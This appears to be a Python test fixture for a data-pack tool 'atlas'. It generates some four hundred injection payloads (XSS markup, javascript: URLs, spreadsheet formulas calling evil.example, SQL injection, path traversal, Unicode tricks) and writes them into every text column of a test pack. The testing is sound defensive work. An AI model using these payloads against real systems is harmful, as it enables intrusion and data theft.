"""Some four hundred texts that try to be more than text, and a pack that is made of them.

Each carries its number: what runs, sets ``window.pwned`` to it.
"""

# ruff: noqa: E501
from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from atlas.base.output import write_text
from atlas.record.scaffold import csv_text, geojson_text
from atlas.record.schema import TABLES, Column
from tests.packs import ENVELOPE, PARTIES, spell, square

__all__ = ["EVERYWHERE", "FORMULAS", "PAYLOADS", "REFUSED", "RUN", "write_hostile_pack"]

RUN = "window.pwned=%d"

_MARKUP = [
    "<script>%s</script>", "</script><script>%s</script>", "<img src=x onerror=%s>", "<svg onload=%s>",
    "<SCRIPT/x>%s</SCRIPT>", "<svg><script>%s</script></svg>", "<body onload=%s>", "<iframe srcdoc='<script>%s</script>'>",
    "<iframe src=javascript:%s>", "<details open ontoggle=%s>", "<video><source onerror=%s>", "<math><mi href=javascript:%s>x",
    "<a href=javascript:%s>x</a>", "<form action=javascript:%s><button>x", "<input autofocus onfocus=%s>", "<object data=javascript:%s>",
    "<embed src=javascript:%s>", "<base href=javascript:%s//>", "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<link rel=stylesheet href=javascript:%s>", "<style>@import'javascript:%s'</style>", "</style><script>%s</script>",
    "</title><script>%s</script>", "</textarea><script>%s</script>", "</noscript><img src=x onerror=%s>", "<!--<img src=--><img src=x onerror=%s>//",
    "--><script>%s</script>", "]]><script>%s</script>", "<![CDATA[<script>%s</script>]]>", "<?xml-stylesheet href='javascript:%s'?>",
    "<marquee onstart=%s>", "<select onchange=%s autofocus>", "<img/src=x/onerror=%s>", "<img src=x onerror=%s//", "<<script>%s//<</script>",
    "<x onclick=%s>click", "<svg><animate onbegin=%s attributeName=x>", "<svg><use href='data:image/svg+xml,<script>%s</script>'>",
    "<template><script>%s</script></template>", "<noscript><p title='</noscript><img src=x onerror=%s>'>", "<table background=javascript:%s>",
    "<button formaction=javascript:%s>x", "<isindex action=javascript:%s>", "<portal src=javascript:%s>", "<dialog open onclose=%s>",
    "<keygen autofocus onfocus=%s>", "<audio src onerror=%s>", "<area href=javascript:%s>", "<svg/onload=%s>", "<xmp><script>%s</script></xmp>",
]  # fmt: skip
_QUOTES = [
    '" onmouseover="%s" x="', "' onmouseover='%s' x='", '"><script>%s</script>', "'><script>%s</script>", "`-%s-`", "';%s;//", '";%s;//',
    "\\';%s;//", '\\";%s;//', "\\u0022;%s;//", "${%s}", "`${%s}`", "#{%s}", "{{%s}}", "{%% raw %%}{{ %s }}", "{{7*7}}{{self.__init__}} %s",
    "{%% include '/etc/passwd' %%}%s", "{{[].constructor.constructor('%s')()}}", "<%%= %s %%>", "$$%s$$", "$\\frac{%s}{2}$", "$\\mathrm{x}^{%s}$",
    "$_{$ %s", "\\$%s\\$", "^_%s_^", "%%s %%d %%(x)s %s", "{0.__class__} %s", "{x!r:>1000000} %s", "$(%s)", "`%s`", "%s|calc",
    "&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;", "&#x3c;img src=x onerror=%s&#x3e;", "&amp;lt;%s", "&%s;", "&#0;%s",
    "&lt;/script&gt;%s", "\\x3cscript\\x3e%s\\x3c/script\\x3e", "\\u003cscript\\u003e%s", "\\074script\\076%s", "+ADw-script+AD4-%s+ADw-/script+AD4-",
    "%%3Cscript%%3E%s%%3C/script%%3E", "\uff1cscript\uff1e%s\uff1c/script\uff1e", "\u2039script\u203a%s", "</ScRiPt ><script >%s</script >",
    "</script\t><script>%s</script>", "<\\/script><script>%s</script>", "//%s", "/*%s*/", "*/%s/*", "<!--%s", "-->%s", "]]>%s", "?>%s",
]  # fmt: skip
_SCHEMES = [
    "javascript:%s", "JavaScript:%s", "jAvAsCrIpT:%s", " javascript:%s", "java\u00adscript:%s", "javascript\u200b:%s", "\u00a0javascript:%s",
    "javascript&colon;%s", "javascript&#58;%s", "&#106;avascript:%s", "javascript:%%0a%s", "javascript://example.org/%%0a%s",
    "javascript:/*--></title></style></textarea></script><svg/onload=%s>", "vbscript:%s", "VBScript:%s", "data:text/html,<script>%s</script>",
    "data:text/html;base64,PHNjcmlwdD4%s", "data:image/svg+xml,<svg onload=%s>", "DATA:text/html,<script>%s</script>", "blob:%s", "file:///etc/passwd#%s",
    "filesystem:%s", "view-source:javascript:%s", "feed:javascript:%s", "livescript:%s", "mocha:%s", "jar:javascript:%s", "//evil.example/%s",
    "\\\\evil.example\\%s", "http:javascript:%s", "https://example.org/\"onclick=\"%s", "https://example.org/'><script>%s</script>",
    "http://user:pass@evil.example/%s", "https://xn--80ak6aa92e.example/%s", "ftp://evil.example/%s", "intent://x#Intent;S.%s;end", "about:blank#%s",
    "mailto:x?body=%s", "tel:%s", "ws://evil.example/%s", "http://[::1]/%s", "https:%s", "h\u0131ttp:%s", "javas\u0441ript:%s",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:%s)", "![x](javascript:%s)", "![x](https://evil.example/%s.png)", "[x]: javascript:%s", "<javascript:%s>", "[x](<javascript:%s>)",
    "**%s**", "# %s", "```%s", "| %s | x |\n".strip(), "> %s", "- [ ] %s", "<https://evil.example/%s>", "[x](data:text/html,%s)", "***\n%s".replace("\n", " "),
    "[x](JaVaScRiPt:%s)", "[x](\u0001javascript:%s)".replace("\u0001", ""), "\\[x](javascript:%s)", "[![x](x)](javascript:%s)", "~~%s~~", "1. %s", "1) %s",
]  # fmt: skip
_FORMULAS = [
    "=%s", "=1+1+%s", "=cmd|'/c calc'!A0%s", "@SUM(%s)", "+cmd|%s", "-cmd|%s", "=HYPERLINK(\"http://evil.example/%s\",\"x\")",
    "=WEBSERVICE(\"http://evil.example/%s\")", "=IMPORTXML(\"http://evil.example/%s\",\"//a\")", "=DDE(\"cmd\";\"/c calc\";\"%s\")", "=@%s",
    "-2+3+%s", "+1;%s", "=\"%s\"", "=%s\"", "@x%s", "=1,%s", "=1;%s", "=A1:%s", "-%s()", "+%s()", "=-%s", "=+%s", "=(%s)",
]  # fmt: skip
_CSS = [
    "red;background:url(javascript:%s)", "expression(%s)", "url('javascript:%s')", "#fff}*{display:none}/*%s", "#000;}</style><script>%s</script>",
    "-moz-binding:url(%s)", "behavior:url(%s)", "red/**/;x:%s", "var(--x,%s)", "calc(1px+%s)", "#abc\\00003c%s", "rgb(0,0,0);%s", "inherit;%s",
    "url(https://evil.example/%s)", "@import url(%s);", "position:fixed;inset:0;%s", "image-set('x' %s)", "red !important;%s",
]  # fmt: skip
_SIGNS = [
    "\u202e%s\u202c", "\u202e%s", "\u202d%s", "\u2066%s", "\u2067%s\u2069", "\u202a%s", "\u202b%s", "\u2068%s", "\u200f%s", "\u200e%s", "\u061c%s",
    "a\u200b%s", "a\u200c%s", "a\u200d%s", "\ufeff%s", "a\u2060%s", "\u00ad%s", "\u180e%s", "\u034f%s", "\u115f%s", "\u3164%s", "\u2028%s", "\u2029%s",
    "\u0085%s", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d%s" * 1, "\U0001f468\u200d\U0001f469\u200d\U0001f467%s", "\U0001f1e6\U0001f1f2%s",
    "\ufffd%s", "\ufdfd%s", "\U000e0041%s", "\ue000%s", "e\u0301" * 8 + "%s", "\u0621\u0644\u0639\u0631%s", "\u05d0\u05d1%s\u05d2", "\u0e01\u0e33%s",
    "W" * 400 + "%s", "\u200b" * 50 + "%s", "i\u0307%s", "\u0130%s", "\ufb01%s", "a" * 3 + "\u0336%s", "\u2800%s", "\u00a0%s\u00a0",
]  # fmt: skip
_PATHS = [
    "../../%s", "..\\..\\%s", "/etc/passwd%s", "C:\\%s", "CON%s", "a/../../%s", "%%2e%%2e/%s", "~/%s", "file%s.csv/../x", "-rf%s", "--help%s", "*%s", "?%s",
    "a%s'; DROP TABLE events;--", "' OR 1=1 --%s", "x%s) UNION SELECT 1", "NULL%s", "NaN%s", "undefined%s", "__proto__%s", "constructor", "__proto__",
    "toString", "hasOwnProperty", "null", "true", "0", "-0", "1e999", "Infinity", "[object Object]", "a,b;c\td".replace("\t", " "), '""', "''", "\"a\",\"b\"",
]  # fmt: skip


def _numbered() -> Iterator[str]:
    loud = [shape.upper().replace("%S", "%s") for shape in _MARKUP]
    shapes = (*_MARKUP, *loud, *_QUOTES, *_SCHEMES, *_MARKDOWN, *_FORMULAS, *_CSS, *_SIGNS, *_PATHS)
    for number, shape in enumerate(shapes, 1):
        run = RUN % number
        yield shape.replace("%s", run).replace("%%", "%") if "%s" in shape else shape


#: Texts that any cell may hold.
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_numbered()))
#: Those of them that a spreadsheet would run.
FORMULAS = tuple(text for text in PAYLOADS if text[0] in "=@+-" and text not in ("-0",))
#: Texts that `atlas check` refuses in a pack; a user's own rows may hold them.
REFUSED: tuple[str, ...] = (
    "\x00<script>window.pwned=901</script>", "\x1b[31mred", "\x1b]8;;https://evil.example\x07x", "a\x08b", "java\nscript:window.pwned=903",
    "\x01javascript:window.pwned=904", "\ud800lone", "lone\udc00", "\udfff\ud800", "a\rb", "a\r\nb", "\x7f", "\x1f",
)  # fmt: skip
#: Texts whose odd blanks a pack drops, or keeps as blanks.
_BLANKS = ("java\tscript:window.pwned=902", "\x0b=1+1", "\t=1+1", "\r=1+1", "\t", " ", "\xa0")
EVERYWHERE: tuple[str, ...] = (*PAYLOADS, *REFUSED, *_BLANKS)

# Columns of text that hold something of a form of its own.
_FORMED = {
    "country": "", "de_jure_iso": "", "wikidata_id": "", "lang": "en", "script": "Latn", "event_time": "", "url": "", "archive_url": "",
    "affiliation": "neutral", "type": "report",
}  # fmt: skip
_PLAIN: dict[str, Any] = {"date_prec": 1, "where_prec": 1, "uncertainty_m": 300}


def _cell(table: str, column: Column, row: int) -> Any:
    """A cell of a row: a payload where text may stand, else the plainest that is right."""
    size = len(PAYLOADS)
    if column.name == "id":
        return f"{table[:2]}{row:04d}"
    if column.name in _FORMED:
        return _FORMED[column.name]
    if table == "events" and column.name in ("actor1", "actor2"):
        return _cell("actors", TABLES["actors"].column("name"), row)
    if column.name in ("actor1_ids", "actor2_ids"):
        return f"ac{row:04d}"
    if column.kind == "text":
        step = [one.name for one in TABLES[table].columns].index(column.name)
        return PAYLOADS[(row + 7 * step) % size]
    if column.refers:
        ids = {"places": f"p{row % 4 % 2}{row % 4 // 2}", "sources": "s-n", "zones": "zo0000", "routes": f"ro{row % 20:04d}"}  # fmt: skip
        return (
            ids.get(column.refers, "")
            if column.required or column.name.endswith("place_id")
            else ""
        )
    if column.kind == "word":
        return column.words[0] if column.required else ""
    if column.name in ("valid_from", "authorised_from", "event_date", "date"):
        return f"2001-{row % 12 + 1:02d}-{row % 28 + 1:02d}"
    if column.kind == "integer" and column.name == "order":
        return row + 1
    if column.required and column.kind in ("number", "integer"):
        return _PLAIN.get(
            column.name, 10.25 if column.name == "lon" else 50.25 if column.name == "lat" else 8
        )
    return "true" if column.kind == "flag" else ""


def _rows(table: str, count: int) -> list[dict[str, Any]]:
    return [
        {column.name: _cell(table, column, row) for column in TABLES[table].columns}
        | dict(ENVELOPE if "certainty" in TABLES[table].names else {"source_ids": "s-n"})
        for row in range(count)
    ]


def write_hostile_pack(directory: Path, *, count: int = len(PAYLOADS)) -> Path:
    """Write a sound pack whose every column of free text holds every payload once."""
    directory.mkdir(parents=True, exist_ok=True)
    texts = itertools.cycle(PAYLOADS)
    toml = [
        'id = "hostile"', 'period_from = "2000-01-01"', 'start_date = "2001-06-01"', "bbox = [9, 49, 12, 52]", 'languages = ["en", "ar", "ru"]',
        'countries = []', 'worldviews = ["A", "B"]', f"licence = {json.dumps(PAYLOADS[0])}", "[title]",
        *(f"{tag} = {json.dumps(next(texts), ensure_ascii=False)}" for tag in ("en", "ar", "ru")), "[description]",
        *(f"{tag} = {json.dumps(next(texts), ensure_ascii=False)}" for tag in ("en", "ar", "ru")),
    ]  # fmt: skip
    for party, (_, colour) in PARTIES.items():
        toml += ["[[parties]]", f"id = {json.dumps(party)}", 'role = "side"', f"colour = {json.dumps(colour)}"]  # fmt: skip
        toml += [f"name_{tag} = {json.dumps(next(texts), ensure_ascii=False)}" for tag in ("en", "ar", "ru")]  # fmt: skip
    toml += [
        "[[sides]]",
        'parties = ["A"]',
        'lang = "en"',
        "[[sides]]",
        'parties = ["B"]',
        'lang = "en"',
    ]
    write_text(directory / "pack.toml", "\n".join(toml) + "\n")
    sources = [
        {"id": "s-n" if n < 0 else f"s{n:04d}", "type": "report", "title": PAYLOADS[n], "publisher": PAYLOADS[(n + 7) % len(PAYLOADS)],
         "URL": f"https://example.org/{n}", "issued": {"date-parts": [[2000, 1, 1]]}, "custom": {"affiliation": "neutral", "kind": "press"}}
        for n in range(-1, count)
    ]  # fmt: skip
    write_text(directory / "sources.json", json.dumps(sources))
    places = [
        ENVELOPE | {"id": f"p{c}{r}", "kind": "settlement", "lon": f"{10.25 + c / 2}", "lat": f"{50.25 + r / 2}"}
        for c in range(2) for r in range(2)
    ]  # fmt: skip
    control = [ENVELOPE | spell(f"c{c}{r}", f"a{c}{r}", "AB"[(c + r) % 2], "2000-01-01") for c in range(2) for r in range(2)]  # fmt: skip
    claims = [
        ENVELOPE | spell(f"k{n:04d}", "a00", "B", f"2001-01-{n % 27 + 1:02d}", f"2001-01-{n % 27 + 2:02d}", asserted_by="B", note=text,
                         de_jure_basis=PAYLOADS[n - 9])
        for n, text in enumerate(PAYLOADS[:27])
    ]  # fmt: skip
    few = {
        "routes": 20,
        "zones": 20,
        "chapters": 6,
        "episodes": 40,
        "casualties": 60,
        "displacement": 60,
        "mandates": 60,
    }
    for name, table in TABLES.items():
        if name == "places":
            write_text(directory / table.file, csv_text(table, places))
        elif name == "control":
            write_text(directory / table.file, csv_text(table, control + claims))
        elif name == "areas":
            about = {"scope": "disputed", "uncertainty_m": 300, "source_ids": "s-n"}
            cells = [
                (about | {"id": f"a{c}{r}", "name_place_id": f"p{c}{r}", "part": next(texts), "geometry_method": next(texts), "note": next(texts)},
                 square(c, r)) for c in range(2) for r in range(2)
            ]  # fmt: skip
            write_text(directory / table.file, geojson_text(table, cells))
        elif table.geometry:
            shapes = []
            for number, row in enumerate(_rows(name, few[name])):
                at = 10.05 + number / 25
                line = {"type": "LineString", "coordinates": [[10.25, 50.25], [at, 50.5], [10.25, 50.75]]}  # fmt: skip
                row |= {"from_place_id": "p00", "to_place_id": "p01"} if name == "routes" else {}
                shape = line if name == "routes" else {"type": "Point", "coordinates": [at, 50.4]}
                shapes.append(({k: v for k, v in row.items() if v != ""}, shape))
            write_text(directory / table.file, geojson_text(table, shapes))
        elif name == "judgements":
            write_text(directory / table.file, csv_text(table, []))
        elif name != "sources":
            rows = _rows(name, few.get(name, count))
            write_text(directory / table.file, csv_text(table, rows))
    return directory
